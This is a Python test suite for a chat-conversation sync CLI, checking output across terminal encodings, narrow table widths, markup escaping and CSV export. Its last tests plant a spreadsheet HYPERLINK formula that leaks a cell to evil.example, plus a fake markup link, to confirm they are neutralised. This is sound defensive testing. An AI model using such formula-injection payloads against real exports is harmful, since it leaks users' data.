"""What the CLI prints survives the terminal it prints to: any encoding, any width."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import chatbase_env


@pytest.fixture
def synced(cli: Any, emulator_factory: Any, sqlite_url: str) -> str:
    """An SQLite database holding 300 emulator conversations (Chinese, emoji, numbers included)."""
    server = emulator_factory(conversations=300, seed=5)
    result = cli("sync", "--json", env=chatbase_env(server, sqlite_url))
    assert result.exit_code == 0, result.stderr
    return sqlite_url


def _run(database_url: str, *args: str, encoding: str) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "CHATSYNC_DATABASE_URL": database_url, "PYTHONIOENCODING": encoding}
    return subprocess.run(
        [sys.executable, "-m", "chatsync", *args], env=env, capture_output=True, timeout=60, check=False
    )


def _chinese_conversation(cli: Any) -> str:
    rows = json.loads(cli("list", "--all", "--search", "號碼", "--format", "json").stdout)
    assert rows, "the emulator's data has Chinese prompts"
    return str(rows[0]["id"])


def test_machine_formats_are_utf8_whatever_the_terminal_encoding(
    cli: Any, synced: str, tmp_path: Path
) -> None:
    """``PYTHONIOENCODING=cp1252`` is what a Windows ``> file`` gets; Chinese text once ended it with exit 1."""
    env = {"CHATSYNC_DATABASE_URL": synced}
    conversation_id = _chinese_conversation(lambda *a: cli(*a, env=env))
    expected_show = json.loads(cli("show", conversation_id, "--format", "json", env=env).stdout)
    expected_list = json.loads(cli("list", "--all", "--format", "json", env=env).stdout)

    show = _run(synced, "show", conversation_id, "--format", "json", encoding="cp1252")
    assert show.returncode == 0, show.stderr
    assert json.loads(show.stdout.decode("utf-8")) == expected_show
    assert any("號碼" in m["content"] for m in expected_show["messages"])

    listed = _run(synced, "list", "--all", "--format", "json", encoding="cp1252")
    assert listed.returncode == 0, listed.stderr
    assert json.loads(listed.stdout.decode("utf-8")) == expected_list

    lines = _run(synced, "list", "--all", "--format", "ndjson", encoding="ascii")
    assert lines.returncode == 0, lines.stderr
    assert [json.loads(line) for line in lines.stdout.decode("utf-8").splitlines()] == expected_list

    table = _run(synced, "list", "--all", "--format", "csv", encoding="latin-1")
    assert table.returncode == 0, table.stderr
    assert len(list(csv.DictReader(io.StringIO(table.stdout.decode("utf-8"))))) == len(expected_list)

    verdict = _run(synced, "extract-test", "我的電話是 ９１２３ ４５６７", "--json", encoding="cp1252")
    assert verdict.returncode == 0, verdict.stderr
    assert json.loads(verdict.stdout.decode("utf-8"))["number"] == "+85291234567"


def test_tables_degrade_instead_of_failing_on_a_narrow_encoding(cli: Any, synced: str) -> None:
    conversation_id = _chinese_conversation(lambda *a: cli(*a, env={"CHATSYNC_DATABASE_URL": synced}))
    shown = _run(synced, "show", conversation_id, "--format", "table", encoding="cp1252")
    assert shown.returncode == 0, shown.stderr
    text = shown.stdout.decode("cp1252")
    assert conversation_id in text and "?" in text  # Chinese the encoding lacks becomes "?"
    report = _run(synced, "report", "--format", "table", encoding="ascii")
    assert report.returncode == 0, report.stderr


@pytest.mark.parametrize("columns", [140, 100, 72, 60, 40])
def test_list_never_cuts_an_id_or_a_number_however_narrow_the_terminal(
    cli: Any, synced: str, columns: int
) -> None:
    env = {"CHATSYNC_DATABASE_URL": synced}
    rows = json.loads(cli("list", "--has-whatsapp", "--limit", "30", "--format", "json", env=env).stdout)
    table = cli(
        "list", "--has-whatsapp", "--limit", "30", "--format", "table", env={**env, "COLUMNS": str(columns)}
    )
    assert table.exit_code == 0, table.stderr
    lines = table.stdout.splitlines()
    for row in rows:  # each whole id on a line with its whole number
        assert any(row["id"] in line and row["whatsapp_number"] in line for line in lines), (row, columns)
    if columns >= 72:
        assert max(len(line.rstrip()) for line in lines) <= columns  # and it still fits when it can


def test_chatbase_text_that_looks_like_markup_is_shown_as_text(cli: Any, sqlite_url: str) -> None:
    """A customer named ``jane[/]doe`` once made show, list and report exit 1 (rich markup)."""
    from datetime import UTC, datetime

    from chatsync.config import WhatsAppRule
    from chatsync.normalize import normalize_conversation
    from chatsync.store import writes
    from chatsync.store.engine import ensure_schema, open_engine

    raw = {
        "id": "m[/]1",
        "created_at": "2024-05-01T08:00:00Z",
        "source": "[/]",
        "customer": "[bold red]SYSTEM[/] jane[/]doe@example.com",
        "messages": [{"role": "user", "content": "[link=https://evil.example]click[/link] [/]"}],
    }
    engine = open_engine(sqlite_url)
    ensure_schema(engine)
    with engine.begin() as connection:
        writes.upsert_conversations(
            connection, [normalize_conversation(raw, "bot", WhatsAppRule())], datetime.now(UTC)
        )
    engine.dispose()
    env = {"CHATSYNC_DATABASE_URL": sqlite_url}
    shown = cli("show", "m[/]1", "--format", "table", env=env)
    assert shown.exit_code == 0, shown.stderr
    assert (
        "[bold red]SYSTEM[/] jane[/]doe@example.com" in shown.stdout
        and "[link=https://evil.example]" in shown.stdout
    )
    listed = cli("list", "--format", "table", env={**env, "COLUMNS": "200"})
    assert listed.exit_code == 0 and "m[/]1" in listed.stdout
    assert cli("report", "--format", "table", env=env).exit_code == 0
    assert cli("set-whatsapp", "m[/]1", "--clear", "--by", "[/]", env=env).exit_code == 0
    audited = cli("show", "m[/]1", "--format", "table", env=env)
    assert audited.exit_code == 0 and "[/]" in audited.stdout


def test_csv_cells_a_spreadsheet_would_run_are_made_inert(cli: Any, sqlite_url: str) -> None:
    from datetime import UTC, datetime

    from chatsync.config import WhatsAppRule
    from chatsync.normalize import normalize_conversation
    from chatsync.store import writes
    from chatsync.store.engine import ensure_schema, open_engine

    raw = {
        "id": "csv1",
        "created_at": "2024-05-01T08:00:00Z",
        "customer": '=HYPERLINK("https://evil.example/?"&A2,"click")',
        "messages": [{"role": "assistant", "content": PROMPT}, {"role": "user", "content": "9123 4567"}],
    }
    engine = open_engine(sqlite_url)
    ensure_schema(engine)
    with engine.begin() as connection:
        writes.upsert_conversations(
            connection, [normalize_conversation(raw, "bot", WhatsAppRule())], datetime.now(UTC)
        )
    engine.dispose()
    out = cli("list", "--format", "csv", env={"CHATSYNC_DATABASE_URL": sqlite_url}).stdout
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["customer"] == "'" + raw["customer"]  # shown as text by a spreadsheet, not run
    assert row["whatsapp_number"] == "+85291234567"  # a number stays as it is


PROMPT = "Hi! Before we start, may I have your WhatsApp number?"
